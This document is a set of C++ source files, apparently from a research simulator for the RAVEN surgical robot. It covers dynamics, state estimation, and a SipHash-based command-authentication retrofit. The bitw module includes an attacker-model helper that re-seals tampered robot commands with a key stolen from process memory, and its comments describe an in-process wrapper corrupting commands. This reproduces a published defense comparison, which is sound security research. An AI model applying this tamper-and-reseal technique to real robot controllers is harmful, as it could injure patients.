  void observe_feedback(const MotorVector& encoder_angles) noexcept;

  /// Tentative one-step prediction of the mean under a candidate command
  /// (same Prediction contract as DynamicModelEstimator).
  [[nodiscard]] Prediction predict(const std::array<std::int16_t, 3>& dac) noexcept;

  /// Time update: propagate mean + covariance through the sigma points
  /// under the executed command.
  void commit(const std::array<std::int16_t, 3>& dac) noexcept;

  void mark_disengaged() noexcept { have_feedback_ = false; }
  void reset() noexcept;

  [[nodiscard]] const RavenDynamicsModel::State& mean() const noexcept { return x_; }
  [[nodiscard]] const MatN<kN>& covariance() const noexcept { return p_; }

 private:
  [[nodiscard]] Vec3 currents_from_dac(const std::array<std::int16_t, 3>& dac) const noexcept;
  void hard_sync(const MotorVector& encoder_angles) noexcept;

  UkfConfig config_;
  RavenDynamicsModel model_;
  RavenKinematics kin_;
  MotorChannel channel_;

  RavenDynamicsModel::State x_{};
  MatN<kN> p_{};
  MatN<kN> q_{};  // process noise
  double r_ = 0.0;  // encoder variance
  double lambda_ = 0.0;
  bool have_feedback_ = false;
};

}  // namespace rg
