#include "defense/bitw.hpp"

#include <algorithm>

namespace rg {

namespace {

void put_u32(std::uint8_t* dst, std::uint32_t v) noexcept {
  for (int i = 0; i < 4; ++i) dst[i] = static_cast<std::uint8_t>(v >> (8 * i));
}

std::uint32_t get_u32(const std::uint8_t* src) noexcept {
  std::uint32_t v = 0;
  for (int i = 3; i >= 0; --i) v = (v << 8) | src[i];
  return v;
}

SealedCommandBytes assemble(const MacKey& key, const CommandBytes& packet,
                            std::uint32_t sequence) noexcept {
  SealedCommandBytes out{};
  std::copy(packet.begin(), packet.end(), out.begin());
  put_u32(out.data() + kCommandPacketSize, sequence);
  const std::uint64_t tag =
      siphash24(key, std::span{out}.first(kCommandPacketSize + 4));
  const auto tb = tag_bytes(tag);
  std::copy(tb.begin(), tb.end(), out.begin() + kCommandPacketSize + 4);
  return out;
}

}  // namespace

SealedCommandBytes CommandSealer::seal(const CommandBytes& packet) noexcept {
  return assemble(key_, packet, sequence_++);
}

std::optional<CommandBytes> CommandVerifier::verify(
    std::span<const std::uint8_t> sealed) noexcept {
  if (sealed.size() != kSealedCommandSize) {
    ++rejected_;
    return std::nullopt;
  }
  const std::uint64_t expected =
      siphash24(key_, sealed.first(kCommandPacketSize + 4));
  const std::uint64_t got = tag_from_bytes(sealed.subspan(kCommandPacketSize + 4, 8));
  if (!tags_equal(expected, got)) {
    ++rejected_;
    return std::nullopt;
  }
  const std::uint32_t sequence = get_u32(sealed.data() + kCommandPacketSize);
  if (seen_any_ && sequence <= last_sequence_) {
    ++rejected_;  // replayed or reordered frame
    return std::nullopt;
  }
  last_sequence_ = sequence;
  seen_any_ = true;
  ++accepted_;
  CommandBytes out{};
  std::copy(sealed.begin(), sealed.begin() + kCommandPacketSize, out.begin());
  return out;
}

SealedCommandBytes reseal_with_stolen_key(const MacKey& stolen_key,
                                          const SealedCommandBytes& frame,
                                          const CommandBytes& tampered) noexcept {
  const std::uint32_t sequence = get_u32(frame.data() + kCommandPacketSize);
  return assemble(stolen_key, tampered, sequence);
}

}  // namespace rg
