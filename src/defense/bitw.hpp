// Bump-in-the-wire (BITW) integrity retrofit for the USB command channel.
//
// Models the conventional defense the paper contrasts with (Sec. III.D):
// a sealing endpoint in the control host authenticates each command
// packet (sequence number + SipHash tag) and a verifying endpoint in
// front of the USB board rejects anything tampered or replayed.
//
// Authenticated frame layout (30 bytes):
//   [0..17]  the 18-byte command packet, verbatim
//   [18..21] u32 monotonically increasing sequence number (little-endian)
//   [22..29] 64-bit SipHash-2-4 tag over bytes [0..21]
//
// The crucial limitation — which the experiments reproduce — is *where
// the sealing happens*: the sealer runs inside the control process, so a
// malicious preloaded wrapper can corrupt the packet either before the
// seal (the MAC then blesses the malicious bytes) or after it while
// reading the in-process key.  BITW defeats bus-level tampering, not the
// TOCTOU attacker this paper considers.
#pragma once

#include <cstdint>
#include <optional>

#include "defense/mac.hpp"
#include "hw/usb_packet.hpp"

namespace rg {

inline constexpr std::size_t kSealedCommandSize = kCommandPacketSize + 4 + 8;
using SealedCommandBytes = std::array<std::uint8_t, kSealedCommandSize>;

/// Sealing endpoint (control-host side).
class CommandSealer {
 public:
  explicit CommandSealer(const MacKey& key) : key_(key) {}

  /// Seal a command packet; stamps the next sequence number.
  [[nodiscard]] SealedCommandBytes seal(const CommandBytes& packet) noexcept;

  [[nodiscard]] std::uint32_t next_sequence() const noexcept { return sequence_; }
  [[nodiscard]] const MacKey& key() const noexcept { return key_; }

 private:
  MacKey key_;
  std::uint32_t sequence_ = 0;
};

/// Verifying endpoint (board side).  Rejects bad tags and non-increasing
/// sequence numbers (replay).
class CommandVerifier {
 public:
  explicit CommandVerifier(const MacKey& key) : key_(key) {}

  /// Returns the embedded command bytes when authentic, nullopt otherwise.
  [[nodiscard]] std::optional<CommandBytes> verify(
      std::span<const std::uint8_t> sealed) noexcept;

  [[nodiscard]] std::uint64_t accepted() const noexcept { return accepted_; }
  [[nodiscard]] std::uint64_t rejected() const noexcept { return rejected_; }

 private:
  MacKey key_;
  std::uint32_t last_sequence_ = 0;
  bool seen_any_ = false;
  std::uint64_t accepted_ = 0;
  std::uint64_t rejected_ = 0;
};

/// Re-seal helper used by the *in-process* attacker model: a wrapper that
/// has located the sealing key in process memory can corrupt the packet
/// and stamp a fresh, valid seal — the TOCTOU survival argument.
[[nodiscard]] SealedCommandBytes reseal_with_stolen_key(const MacKey& stolen_key,
                                                        const SealedCommandBytes& frame,
                                                        const CommandBytes& tampered) noexcept;

}  // namespace rg
