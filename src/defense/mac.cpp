#include "defense/mac.hpp"

namespace rg {

namespace {

inline std::uint64_t rotl(std::uint64_t x, int b) noexcept {
  return (x << b) | (x >> (64 - b));
}

struct SipState {
  std::uint64_t v0, v1, v2, v3;

  void round() noexcept {
    v0 += v1;
    v1 = rotl(v1, 13);
    v1 ^= v0;
    v0 = rotl(v0, 32);
    v2 += v3;
    v3 = rotl(v3, 16);
    v3 ^= v2;
    v0 += v3;
    v3 = rotl(v3, 21);
    v3 ^= v0;
    v2 += v1;
    v1 = rotl(v1, 17);
    v1 ^= v2;
    v2 = rotl(v2, 32);
  }
};

std::uint64_t read_u64_le(const std::uint8_t* p) noexcept {
  std::uint64_t v = 0;
  for (int i = 7; i >= 0; --i) v = (v << 8) | p[i];
  return v;
}

}  // namespace

std::uint64_t siphash24(const MacKey& key, std::span<const std::uint8_t> data) noexcept {
  SipState s{key.k0 ^ 0x736f6d6570736575ULL, key.k1 ^ 0x646f72616e646f6dULL,
             key.k0 ^ 0x6c7967656e657261ULL, key.k1 ^ 0x7465646279746573ULL};

  const std::size_t n = data.size();
  const std::size_t full_blocks = n / 8;
  for (std::size_t i = 0; i < full_blocks; ++i) {
    const std::uint64_t m = read_u64_le(data.data() + 8 * i);
    s.v3 ^= m;
    s.round();
    s.round();
    s.v0 ^= m;
  }

  // Final block: remaining bytes plus the length in the top byte.
  std::uint64_t last = static_cast<std::uint64_t>(n & 0xFF) << 56;
  for (std::size_t i = 0; i < (n & 7); ++i) {
    last |= static_cast<std::uint64_t>(data[8 * full_blocks + i]) << (8 * i);
  }
  s.v3 ^= last;
  s.round();
  s.round();
  s.v0 ^= last;

  s.v2 ^= 0xFF;
  s.round();
  s.round();
  s.round();
  s.round();
  return s.v0 ^ s.v1 ^ s.v2 ^ s.v3;
}

std::array<std::uint8_t, 8> tag_bytes(std::uint64_t tag) noexcept {
  std::array<std::uint8_t, 8> out{};
  for (int i = 0; i < 8; ++i) out[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(tag >> (8 * i));
  return out;
}

std::uint64_t tag_from_bytes(std::span<const std::uint8_t> bytes) noexcept {
  std::uint64_t tag = 0;
  const std::size_t n = bytes.size() < 8 ? bytes.size() : 8;
  for (std::size_t i = 0; i < n; ++i) tag |= static_cast<std::uint64_t>(bytes[i]) << (8 * i);
  return tag;
}

bool tags_equal(std::uint64_t a, std::uint64_t b) noexcept {
  // Constant-time: fold the difference, compare once.
  const std::uint64_t diff = a ^ b;
  std::uint64_t acc = diff;
  acc |= diff >> 32;
  acc |= diff >> 16;
  acc |= diff >> 8;
  return (acc & 0xFF) == 0 && diff == 0;
}

}  // namespace rg
