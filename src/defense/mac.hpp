// Message authentication for packet integrity retrofits.
//
// The paper (Sec. III.D) discusses "bump-in-the-wire" (BITW) integrity
// retrofits — e.g. SEL serial encrypting transceivers, YASIR — as the
// conventional answer to command tampering, and argues they add latency
// and *still do not eliminate TOCTOU exploits* when the attacker sits
// inside the control process.  This module provides the cryptographic
// piece needed to reproduce that comparison: SipHash-2-4 (Aumasson &
// Bernstein, 2012), a fast keyed PRF designed for exactly this kind of
// short-message authentication, implemented from the public reference
// algorithm.
#pragma once

#include <array>
#include <cstdint>
#include <span>

namespace rg {

/// 128-bit MAC key.
struct MacKey {
  std::uint64_t k0 = 0;
  std::uint64_t k1 = 0;

  /// Deterministic test/demo key derivation from a seed.
  static MacKey from_seed(std::uint64_t seed) noexcept {
    return MacKey{seed * 0x9e3779b97f4a7c15ULL + 1, seed * 0xc2b2ae3d27d4eb4fULL + 2};
  }
};

/// SipHash-2-4 of a byte string under the key (64-bit tag).
[[nodiscard]] std::uint64_t siphash24(const MacKey& key, std::span<const std::uint8_t> data) noexcept;

/// Tag serialization helpers (little-endian, 8 bytes).
[[nodiscard]] std::array<std::uint8_t, 8> tag_bytes(std::uint64_t tag) noexcept;
[[nodiscard]] std::uint64_t tag_from_bytes(std::span<const std::uint8_t> bytes) noexcept;

/// Constant-time tag comparison (a MAC verifier must not leak timing).
[[nodiscard]] bool tags_equal(std::uint64_t a, std::uint64_t b) noexcept;

}  // namespace rg
