#include "dynamics/batch_model.hpp"

// Runtime ISA dispatch for the lane loops.  The SSE2 baseline packs only
// two doubles per vector, which caps the batched speedup near 2x minus
// loop overhead; x86-64-v3 (AVX2) and v4 (AVX-512) quadruple/octuple the
// width.  target_clones compiles each dispatch function once per ISA and
// picks the best at load time via ifunc, so one portable binary gets the
// wide vectors where the CPU has them.  Bit-identity with the scalar
// model is preserved at every width: rg_dynamics builds with
// -ffp-contract=off (no FMA fusing on the wide clones) and IEEE add/mul/
// div are per-lane identical regardless of vector width.
// Sanitizer builds skip the clones: the ifunc resolvers target_clones
// emits run before the sanitizer runtime initializes and crash at load.
// Results are identical either way — only the vector width changes.
#if defined(__GNUC__) && defined(__x86_64__) && !defined(__clang__) && \
    !defined(__SANITIZE_THREAD__) && !defined(__SANITIZE_ADDRESS__)
#define RG_LANES_CLONES \
  __attribute__((target_clones("default", "arch=x86-64-v3", "arch=x86-64-v4")))
#else
#define RG_LANES_CLONES
#endif

namespace rg {

namespace {

constexpr std::size_t K = kBatchLanes;

/// Neutral external effects for the nominal-model path.
const std::array<LaneFx, K> kNeutralFx{};

// Elementwise solver-update helpers.  Each replicates the exact
// expression shape rg::Vec's operators produce for the scalar solvers in
// ode/integrators.hpp (left-associated sums, coefficient on the right of
// each k), so batched lanes match scalar integration bit for bit.

/// out = x + k * a
RG_REALTIME inline void axpy(const BatchState& x, const BatchState& k, double a, BatchState& out) noexcept {
  for (std::size_t c = 0; c < 12; ++c) {
    for (std::size_t l = 0; l < K; ++l) out.c[c][l] = x.c[c][l] + k.c[c][l] * a;
  }
}

}  // namespace

BatchRavenModel::BatchRavenModel(const RavenDynamicsParams& params) : p_(params) {
  // Reuse the scalar model's construction (validation + coupling build) so
  // the flattened constants are byte-for-byte the scalar model's.
  const RavenDynamicsModel scalar(params);
  kp_ = scalar.kernel_params();
}

RG_REALTIME RG_DETERMINISTIC void BatchRavenModel::tau_em_from_currents(const BatchLanes3& currents,
                                           BatchLanes3& tau_em) const noexcept {
  for (std::size_t l = 0; l < K; ++l) {
    const double i[3] = {currents[0][l], currents[1][l], currents[2][l]};
    double te[3];
    electromagnetic_torque(kp_, i, te);
    tau_em[0][l] = te[0];
    tau_em[1][l] = te[1];
    tau_em[2][l] = te[2];
  }
}

namespace {

// The lean/general split is a template parameter (not a runtime branch in
// one body) so each instantiation inlines exactly ONE copy of the lane
// kernel — two copies in a single function blow GCC's inlining budget,
// the kernel gets outlined, and neither lane loop vectorizes.
//
// Lean path (no effects, no brakes — the estimator's and the bench's hot
// configuration): skips the effects transpose and the lock select.  Same
// kernel, same neutral LaneFx values, so it is bit-identical to the
// general path, just without its per-call setup cost.
template <bool HardStops, bool Lean>
RG_REALTIME RG_LANE_INLINE void lanes_body(const DynParams& kp, const BatchState& x,
                               const BatchLanes3& tau_em, const std::array<LaneFx, K>* fx,
                               const bool* locked, BatchState& dx) noexcept {
  // Transpose the per-lane effects to SoA locals and widen the lock flags
  // to a double mask: inside the lane loop, an effects[l].member access is
  // a 72-byte-strided gather and a bool load is a sub-word select — both
  // veto vectorization; contiguous local double arrays don't.
  std::array<std::array<double, K>, 3> emt{};
  std::array<std::array<double, K>, 3> csc{};
  std::array<std::array<double, K>, 3> ejf{};
  std::array<double, K> lock_mask{};
  if constexpr (!Lean) {
    const std::array<LaneFx, K>& effects = fx != nullptr ? *fx : kNeutralFx;
    for (std::size_t i = 0; i < 3; ++i) {
      for (std::size_t l = 0; l < K; ++l) {
        emt[i][l] = effects[l].extra_motor_torque[i];
        csc[i][l] = effects[l].cable_scale[i];
        ejf[i][l] = effects[l].extra_joint_force[i];
      }
    }
    if (locked != nullptr) {
      for (std::size_t l = 0; l < K; ++l) lock_mask[l] = locked[l] ? 1.0 : 0.0;
    }
  }
  // Compute into a local, then copy out.  A local provably never aliases
  // the inputs, so the lane loop has no read-write conflicts; writing dx
  // directly would demand a runtime alias check per (input, output) array
  // pair — 12x12 of them — and the vectorizer gives up instead.
  BatchState tmp;
  for (std::size_t l = 0; l < K; ++l) {
    const LaneState s{x.c[0][l], x.c[1][l], x.c[2][l],  x.c[3][l], x.c[4][l],  x.c[5][l],
                      x.c[6][l], x.c[7][l], x.c[8][l],  x.c[9][l], x.c[10][l], x.c[11][l]};
    const double te[3] = {tau_em[0][l], tau_em[1][l], tau_em[2][l]};
    LaneFx fxl{};
    if constexpr (!Lean) {
      fxl = LaneFx{{emt[0][l], emt[1][l], emt[2][l]},
                   {csc[0][l], csc[1][l], csc[2][l]},
                   {ejf[0][l], ejf[1][l], ejf[2][l]}};
    }
    double d[12];
    derivative_lane<HardStops>(kp, s, fxl, te, d);
    if constexpr (Lean) {
      for (std::size_t i = 0; i < 12; ++i) tmp.c[i][l] = d[i];
    } else {
      // Locked shafts: motor position and velocity derivatives vanish
      // (mirrors the scalar plant's substep lambda).  Select, don't scale:
      // 0.0 * wd would flip the sign bit of zero for negative wd.
      for (std::size_t i = 0; i < 6; ++i) tmp.c[i][l] = lock_mask[l] != 0.0 ? 0.0 : d[i];
      for (std::size_t i = 6; i < 12; ++i) tmp.c[i][l] = d[i];
    }
  }
  dx = tmp;
}

// One ISA-cloned entry point per (HardStops, Lean) instantiation.  The
// always_inline lanes_body is re-expanded inside every clone, so each ISA
// gets its own fully vectorized copy of the lane loop.
RG_REALTIME RG_LANES_CLONES void lanes_hs_lean(const DynParams& kp, const BatchState& x,
                                   const BatchLanes3& tau_em, BatchState& dx) noexcept {
  lanes_body<true, true>(kp, x, tau_em, nullptr, nullptr, dx);
}
RG_REALTIME RG_LANES_CLONES void lanes_hs_full(const DynParams& kp, const BatchState& x,
                                   const BatchLanes3& tau_em, const std::array<LaneFx, K>* fx,
                                   const bool* locked, BatchState& dx) noexcept {
  lanes_body<true, false>(kp, x, tau_em, fx, locked, dx);
}
RG_REALTIME RG_LANES_CLONES void lanes_nohs_lean(const DynParams& kp, const BatchState& x,
                                     const BatchLanes3& tau_em, BatchState& dx) noexcept {
  lanes_body<false, true>(kp, x, tau_em, nullptr, nullptr, dx);
}
RG_REALTIME RG_LANES_CLONES void lanes_nohs_full(const DynParams& kp, const BatchState& x,
                                     const BatchLanes3& tau_em, const std::array<LaneFx, K>* fx,
                                     const bool* locked, BatchState& dx) noexcept {
  lanes_body<false, false>(kp, x, tau_em, fx, locked, dx);
}

}  // namespace

template <bool HardStops>
RG_REALTIME RG_DETERMINISTIC void BatchRavenModel::derivative_impl(const BatchState& x, const BatchLanes3& tau_em,
                                      const std::array<LaneFx, K>* fx, const bool* locked,
                                      BatchState& dx) const noexcept {
  const bool lean = fx == nullptr && locked == nullptr;
  if constexpr (HardStops) {
    if (lean) {
      lanes_hs_lean(kp_, x, tau_em, dx);
    } else {
      lanes_hs_full(kp_, x, tau_em, fx, locked, dx);
    }
  } else {
    if (lean) {
      lanes_nohs_lean(kp_, x, tau_em, dx);
    } else {
      lanes_nohs_full(kp_, x, tau_em, fx, locked, dx);
    }
  }
}

RG_REALTIME RG_DETERMINISTIC void BatchRavenModel::derivative(const BatchState& x, const BatchLanes3& tau_em,
                                 const std::array<LaneFx, K>* fx, const bool* locked,
                                 BatchState& dx) const noexcept {
  if (p_.enforce_hard_stops) {
    derivative_impl<true>(x, tau_em, fx, locked, dx);
  } else {
    derivative_impl<false>(x, tau_em, fx, locked, dx);
  }
}

RG_REALTIME RG_DETERMINISTIC void BatchRavenModel::cable_force(const BatchState& x, BatchLanes3& tau) const noexcept {
  constexpr double kOnes[3] = {1.0, 1.0, 1.0};
  for (std::size_t l = 0; l < K; ++l) {
    const LaneState s{x.c[0][l], x.c[1][l], x.c[2][l],  x.c[3][l], x.c[4][l],  x.c[5][l],
                      x.c[6][l], x.c[7][l], x.c[8][l],  x.c[9][l], x.c[10][l], x.c[11][l]};
    double t[3];
    cable_force_lane(kp_, s, kOnes, t);
    tau[0][l] = t[0];
    tau[1][l] = t[1];
    tau[2][l] = t[2];
  }
}

RG_REALTIME RG_DETERMINISTIC void BatchRavenModel::step(BatchState& x, const BatchLanes3& currents, double h,
                           SolverKind solver) const noexcept {
  BatchLanes3 tau_em;
  tau_em_from_currents(currents, tau_em);
  step_with_effects(x, tau_em, kNeutralFx, nullptr, h, solver);
}

RG_REALTIME RG_DETERMINISTIC void BatchRavenModel::step_with_effects(BatchState& x, const BatchLanes3& tau_em,
                                        const std::array<LaneFx, K>& fx, const bool* locked,
                                        double h, SolverKind solver) const noexcept {
  BatchState k1;
  derivative(x, tau_em, &fx, locked, k1);

  switch (solver) {
    case SolverKind::kEuler: {
      // x + h * k1
      for (std::size_t c = 0; c < 12; ++c) {
        for (std::size_t l = 0; l < K; ++l) x.c[c][l] = x.c[c][l] + k1.c[c][l] * h;
      }
      return;
    }
    case SolverKind::kMidpoint: {
      BatchState xs, k2;
      axpy(x, k1, 0.5 * h, xs);
      derivative(xs, tau_em, &fx, locked, k2);
      // x + h * k2
      for (std::size_t c = 0; c < 12; ++c) {
        for (std::size_t l = 0; l < K; ++l) x.c[c][l] = x.c[c][l] + k2.c[c][l] * h;
      }
      return;
    }
    case SolverKind::kRk4: {
      BatchState xs, k2, k3, k4;
      axpy(x, k1, 0.5 * h, xs);
      derivative(xs, tau_em, &fx, locked, k2);
      axpy(x, k2, 0.5 * h, xs);
      derivative(xs, tau_em, &fx, locked, k3);
      axpy(x, k3, h, xs);
      derivative(xs, tau_em, &fx, locked, k4);
      // x + (h/6) * (((k1 + 2 k2) + 2 k3) + k4)
      const double h6 = h / 6.0;
      for (std::size_t c = 0; c < 12; ++c) {
        for (std::size_t l = 0; l < K; ++l) {
          x.c[c][l] =
              x.c[c][l] +
              (((k1.c[c][l] + k2.c[c][l] * 2.0) + k3.c[c][l] * 2.0) + k4.c[c][l]) * h6;
        }
      }
      return;
    }
    case SolverKind::kRkf45: {
      BatchState xs, k2, k3, k4, k5, k6;
      const double c21 = h / 4.0;
      const double c31 = 3.0 * h / 32.0, c32 = 9.0 * h / 32.0;
      const double c41 = 1932.0 * h / 2197.0, c42 = 7200.0 * h / 2197.0,
                   c43 = 7296.0 * h / 2197.0;
      const double c51 = 439.0 * h / 216.0, c52 = 8.0 * h, c53 = 3680.0 * h / 513.0,
                   c54 = 845.0 * h / 4104.0;
      const double c61 = 8.0 * h / 27.0, c62 = 2.0 * h, c63 = 3544.0 * h / 2565.0,
                   c64 = 1859.0 * h / 4104.0, c65 = 11.0 * h / 40.0;

      axpy(x, k1, c21, xs);
      derivative(xs, tau_em, &fx, locked, k2);
      for (std::size_t c = 0; c < 12; ++c) {
        for (std::size_t l = 0; l < K; ++l) {
          xs.c[c][l] = (x.c[c][l] + k1.c[c][l] * c31) + k2.c[c][l] * c32;
        }
      }
      derivative(xs, tau_em, &fx, locked, k3);
      for (std::size_t c = 0; c < 12; ++c) {
        for (std::size_t l = 0; l < K; ++l) {
          xs.c[c][l] = ((x.c[c][l] + k1.c[c][l] * c41) - k2.c[c][l] * c42) + k3.c[c][l] * c43;
        }
      }
      derivative(xs, tau_em, &fx, locked, k4);
      for (std::size_t c = 0; c < 12; ++c) {
        for (std::size_t l = 0; l < K; ++l) {
          xs.c[c][l] = (((x.c[c][l] + k1.c[c][l] * c51) - k2.c[c][l] * c52) +
                        k3.c[c][l] * c53) -
                       k4.c[c][l] * c54;
        }
      }
      derivative(xs, tau_em, &fx, locked, k5);
      for (std::size_t c = 0; c < 12; ++c) {
        for (std::size_t l = 0; l < K; ++l) {
          xs.c[c][l] = ((((x.c[c][l] - k1.c[c][l] * c61) + k2.c[c][l] * c62) -
                         k3.c[c][l] * c63) +
                        k4.c[c][l] * c64) -
                       k5.c[c][l] * c65;
        }
      }
      derivative(xs, tau_em, &fx, locked, k6);
      // x + h * ((((16/135 k1 + 6656/12825 k3) + 28561/56430 k4) - 9/50 k5) + 2/55 k6)
      for (std::size_t c = 0; c < 12; ++c) {
        for (std::size_t l = 0; l < K; ++l) {
          x.c[c][l] = x.c[c][l] + ((((k1.c[c][l] * (16.0 / 135.0) +
                                      k3.c[c][l] * (6656.0 / 12825.0)) +
                                     k4.c[c][l] * (28561.0 / 56430.0)) -
                                    k5.c[c][l] * (9.0 / 50.0)) +
                                   k6.c[c][l] * (2.0 / 55.0)) *
                                      h;
        }
      }
      return;
    }
  }
}

}  // namespace rg
