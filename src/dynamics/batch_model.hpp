// Batched SoA dynamics: K lanes of the RAVEN arm model stepped in
// lockstep.
//
// BatchState holds 12 state components x kBatchLanes doubles
// structure-of-arrays, so every expression in the derivative and in the
// solver update is a flat, branch-light loop over lanes that the
// auto-vectorizer turns into SIMD.  All lane math is the *same inline
// kernel* (dynamics/lane_kernel.hpp) the scalar RavenDynamicsModel runs,
// and the solver updates replicate rg::Vec's expression shapes exactly —
// so lane `l` of a batched integration is bit-identical to a scalar
// integration of that lane's state.  That equivalence is what lets the
// campaign engine batch homogeneous jobs without perturbing a byte of the
// deterministic report (asserted by tests/test_batch_dynamics.cpp).
//
// Users: BatchPlant (plant/batch_plant.hpp) advances K physical robots per
// control period; LockstepGroup (sim/lockstep.hpp) adds the batched
// estimator solve.
#pragma once

#include <array>
#include <cstddef>

#include "common/realtime.hpp"

#include "dynamics/lane_kernel.hpp"
#include "dynamics/raven_model.hpp"
#include "math/vec.hpp"
#include "ode/integrators.hpp"

namespace rg {

/// Compile-time lane count.  Eight lanes fill an AVX-512 register of
/// doubles and two AVX2 registers; the sweet spot between vector width
/// and per-worker cache footprint (see docs/performance.md).
inline constexpr std::size_t kBatchLanes = 8;

/// One batched 3-vector (e.g. per-lane motor currents or cable tensions).
using BatchLanes3 = std::array<std::array<double, kBatchLanes>, 3>;

/// 12 x K state, component-major (component c of lane l at c[c][l]).
struct alignas(64) BatchState {
  std::array<std::array<double, kBatchLanes>, 12> c{};

  [[nodiscard]] RG_REALTIME Vec<12> lane(std::size_t l) const noexcept {
    Vec<12> x;
    for (std::size_t i = 0; i < 12; ++i) x[i] = c[i][l];
    return x;
  }
  RG_REALTIME void set_lane(std::size_t l, const Vec<12>& x) noexcept {
    for (std::size_t i = 0; i < 12; ++i) c[i][l] = x[i];
  }
  /// Copy lane `from` into every lane of the batch — how callers give
  /// unused lanes safe numerics (their results are discarded).
  RG_REALTIME void broadcast(std::size_t from) noexcept {
    for (std::size_t i = 0; i < 12; ++i) {
      const double v = c[i][from];
      for (std::size_t l = 0; l < kBatchLanes; ++l) c[i][l] = v;
    }
  }
};

/// K-lane RAVEN dynamics over a single parameter set (the lanes of a
/// batch share physics; only state and inputs differ per lane).
class BatchRavenModel {
 public:
  explicit BatchRavenModel(const RavenDynamicsParams& params);

  /// dx/dt for all lanes.  `tau_em` is the per-lane electromagnetic
  /// torque (see tau_em_from_currents); `fx`/`locked` may be null for
  /// the nominal model (no external effects, no brake locks).  A locked
  /// lane gets zero motor position/velocity derivatives, exactly like
  /// the scalar plant's shaft lock.
  RG_REALTIME void derivative(const BatchState& x, const BatchLanes3& tau_em,
                  const std::array<LaneFx, kBatchLanes>* fx, const bool* locked,
                  BatchState& dx) const noexcept;

  /// Unscaled joint-side cable tension per lane (the plant's overload
  /// watch).
  RG_REALTIME void cable_force(const BatchState& x, BatchLanes3& tau) const noexcept;

  /// Advance all lanes by h with the given (pre-validated) solver under
  /// per-lane motor currents; no external effects.  This is the batched
  /// twin of RavenDynamicsModel::step — the estimator path.
  RG_REALTIME void step(BatchState& x, const BatchLanes3& currents, double h,
            SolverKind solver) const noexcept;

  /// Advance all lanes by h under precomputed tau_em, per-lane external
  /// effects and lock flags — the plant path (BatchPlant owns the
  /// substep/snap loop around this).
  RG_REALTIME void step_with_effects(BatchState& x, const BatchLanes3& tau_em,
                         const std::array<LaneFx, kBatchLanes>& fx, const bool* locked,
                         double h, SolverKind solver) const noexcept;

  /// Per-lane electromagnetic torque from commanded currents (hoisted out
  /// of the per-stage loop; state-independent).
  RG_REALTIME void tau_em_from_currents(const BatchLanes3& currents, BatchLanes3& tau_em) const noexcept;

  [[nodiscard]] const RavenDynamicsParams& params() const noexcept { return p_; }

 private:
  template <bool HardStops>
  RG_REALTIME void derivative_impl(const BatchState& x, const BatchLanes3& tau_em,
                       const std::array<LaneFx, kBatchLanes>* fx, const bool* locked,
                       BatchState& dx) const noexcept;

  RavenDynamicsParams p_;
  DynParams kp_;
};

}  // namespace rg
