// The per-lane dynamics kernel shared by the scalar RavenDynamicsModel and
// the SoA BatchRavenModel.
//
// Both models funnel every derivative evaluation through the inline
// functions below, written over plain doubles with branch-free selects and
// the fastmath transcendentals.  Because scalar and batched paths execute
// the *same expression trees in the same order*, a batched lane is
// bit-identical to the equivalent scalar trajectory — which is what lets
// the campaign runner swap lane-parallel execution in and out without
// perturbing a single byte of the deterministic report.
//
// The kernel also bakes in the structural optimizations the generic code
// couldn't express:
//   - the cable-coupling matrix C is lower-triangular (the elbow cable
//     rides the shoulder pulley, never the reverse), so C*mpos and
//     C^T*tau are 6 multiplies instead of 18;
//   - electromagnetic torque (clamp + K_t) is state-independent, so
//     callers compute it once per solver step instead of per stage;
//   - reciprocals of the constant rotor inertias are precomputed;
//   - hard stops are a compile-time template flag (the detector's model
//     disables them) and branch-free when enabled.
#pragma once

#include <array>
#include <cstddef>

#include "common/realtime.hpp"
#include "math/fastmath.hpp"
#include "math/mat.hpp"

// The kernel MUST land inside its caller's lane loop for the loop to
// vectorize — an outlined call vetoes the vectorizer outright, and GCC's
// cost model declines to inline the full kernel into every BatchRavenModel
// instantiation on its own.  Inlining it is always the right call here:
// there is exactly one hot caller shape (a K-lane loop) per instantiation.
#if defined(__GNUC__)
#define RG_LANE_INLINE inline __attribute__((always_inline))
#else
#define RG_LANE_INLINE inline
#endif

namespace rg {

struct RavenDynamicsParams;

/// Flattened, multiplication-ready constants for one arm's dynamics.
/// Built once per model from RavenDynamicsParams (see raven_model.cpp).
struct DynParams {
  // Lower-triangular motor->joint coupling C (row-major, zeros dropped).
  double c00 = 0.0;
  double c10 = 0.0, c11 = 0.0;
  double c20 = 0.0, c21 = 0.0, c22 = 0.0;
  // Cable spring/damper, joint side.
  std::array<double, 3> cable_k{};
  std::array<double, 3> cable_d{};
  // Motor constants: electromagnetic torque map and friction.
  std::array<double, 3> torque_constant{};
  std::array<double, 3> max_current{};
  std::array<double, 3> motor_viscous{};
  std::array<double, 3> motor_coulomb{};
  std::array<double, 3> inv_rotor_inertia{};
  // Link constants.
  double base_inertia_shoulder = 0.0;
  double base_inertia_elbow = 0.0;
  double tool_mass = 0.0;
  double gravity = 0.0;
  std::array<double, 3> joint_viscous{};
  std::array<double, 3> joint_coulomb{};
  // Hard stops (used only when the HardStops template flag is set).
  std::array<double, 3> limit_min{};
  std::array<double, 3> limit_max{};
  double hard_stop_k = 0.0;
  double hard_stop_d = 0.0;

  // tanh half-widths as reciprocal multipliers (see motor.hpp /
  // link_dynamics.cpp for the source constants).
  static constexpr double kInvMotorSmoothing = 2.0;         // 1 / 0.5 rad/s
  static constexpr double kInvCoulombSmoothing = 20.0;      // 1 / 0.05

  /// Flatten model params + the coupling matrix.  `motor_to_joint` must be
  /// the lower-triangular C from CableCoupling.
  static DynParams from(const RavenDynamicsParams& params, const Mat3& motor_to_joint);
};

/// One lane's 12-dim state, unpacked to scalars (theta_m, omega_m, q, qdot).
struct LaneState {
  double tm0, tm1, tm2;
  double wm0, wm1, wm2;
  double q0, q1, q2;
  double v0, v1, v2;
};

/// One lane's external effects (brakes / cable damage / disturbances).
struct LaneFx {
  double extra_motor_torque[3] = {0.0, 0.0, 0.0};
  double cable_scale[3] = {1.0, 1.0, 1.0};
  double extra_joint_force[3] = {0.0, 0.0, 0.0};
};

/// Joint-side cable torque/force: tau = scale * (Kc (C tm - q) + Dc (C wm - v)).
RG_REALTIME RG_LANE_INLINE void cable_force_lane(const DynParams& p, const LaneState& s,
                             const double scale[3], double tau[3]) noexcept {
  // C * theta_m and C * omega_m, exploiting lower-triangular sparsity.
  const double qm0 = p.c00 * s.tm0;
  const double qm1 = p.c10 * s.tm0 + p.c11 * s.tm1;
